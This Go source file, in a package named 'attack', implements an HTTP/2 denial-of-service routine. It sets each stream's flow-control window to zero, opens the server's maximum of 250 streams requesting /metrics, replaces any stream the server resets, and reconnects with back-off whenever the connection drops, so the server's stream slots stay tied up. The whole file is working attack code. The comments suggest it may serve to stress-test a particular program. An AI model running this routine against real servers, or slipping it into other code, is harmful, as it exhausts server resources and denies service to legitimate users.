package attack

import (
	"bytes"
	"context"
	"io"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// maxStreams is the number of streams that a client opens: the limit of Go's server for a
// connection.
const maxStreams = 250

// stuckStreams requests the metrics on all streams of a connection and prevents the program from
// sending any byte: the window of each stream is 0. It connects again when the program closes the
// connection.
func (g *target) stuckStreams(ctx context.Context) {
	for {
		conn := g.dial(ctx, 0, http2.NextProtoTLS)
		if conn == nil {
			return
		}
		_ = g.stick(conn) // the program, or the end of ctx, closes the connection
		conn.Close()
		backOff(ctx)
	}
}

// stick opens streams, and a new one for each stream that the program ends, until the connection
// breaks.
func (g *target) stick(conn net.Conn) error {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	framer := http2.NewFramer(conn, conn)
	if err := framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	var next uint32 = 1
	for range maxStreams {
		if err := g.open(framer, next); err != nil {
			return err
		}
		next += 2
	}
	for {
		frame, err := framer.ReadFrame()
		if err != nil {
			return err
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				err = framer.WriteSettingsAck()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				err = framer.WritePing(true, f.Data)
			}
		case *http2.RSTStreamFrame:
			err = g.open(framer, next)
			next += 2
		case *http2.GoAwayFrame:
			return nil
		}
		if err != nil {
			return err
		}
	}
}

// open requests the metrics on a stream.
func (g *target) open(framer *http2.Framer, stream uint32) error {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: g.Address},
		{Name: ":path", Value: "/metrics"},
		{Name: "accept-encoding", Value: "gzip"},
	} {
		if err := encoder.WriteField(field); err != nil {
			return err
		}
	}
	return framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: stream, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true,
	})
}
